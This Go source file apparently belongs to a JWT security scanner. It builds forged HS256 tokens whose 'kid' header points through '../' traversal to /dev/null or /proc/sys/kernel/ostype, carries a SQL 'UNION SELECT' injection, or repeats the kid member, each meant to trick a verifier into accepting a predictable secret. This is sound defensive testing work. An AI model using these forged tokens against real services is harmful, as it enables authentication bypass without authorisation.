// SPDX-License-Identifier: Apache-2.0

package token

import (
	"fmt"
	"strings"
)

const (
	fileKey   = "The name of the key is the path of a file."
	queryKey  = "The name of the key is put into a query of a database."
	otherName = "Of two members of the same name one is checked, and the other is used."
)

// up leads from any directory to the root.
const up = "../../../../../../../.."

// known are files that every Linux has, with what is in them, also as it may be
// read: without the end of the line.
var known = []struct {
	path    string
	secrets []string
}{
	{"/dev/null", []string{""}},
	{"/proc/sys/kernel/ostype", []string{"Linux\n", "Linux"}},
}

// names are tokens whose kid makes a verifier find a secret that is none. All of
// them read; none changes anything.
func (m *template) names(mine string) (forms []form) {
	add := func(name, cause, secret string, header []byte) {
		forms = append(forms, m.made(name, jws{header, m.base.payload}.by(symmetric("HS256", []byte(secret))), cause))
	}
	named := func(kid string) []byte { return m.base.with(map[string]any{"alg": "HS256", "kid": kid}).header }
	for _, file := range known {
		for _, path := range []string{file.path, up + file.path} {
			for _, secret := range file.secrets {
				add(fmt.Sprintf("kid %s, HS256 with %s", path, spelt(secret)), fileKey, secret, named(path))
			}
		}
	}
	for _, quote := range []string{"'", `"`} {
		kid := strings.ReplaceAll(mine+"' UNION SELECT 'regproof' -- ", "'", quote)
		add("kid "+kid+", HS256 with regproof", queryKey, "regproof", named(kid))
	}
	if kid := m.kid(); kid != "" {
		add("kid the issuer's and then /dev/null, HS256 with an empty secret", otherName, "", twice(named(kid), "kid", "/dev/null"))
		add("kid /dev/null and then the issuer's, HS256 with an empty secret", otherName, "", twice(named("/dev/null"), "kid", kid))
	}
	return forms
}

// spelt is a secret in the words of a finding.
func spelt(secret string) string {
	if secret == "" {
		return "an empty secret"
	}
	return fmt.Sprintf("the secret %q", secret)
}
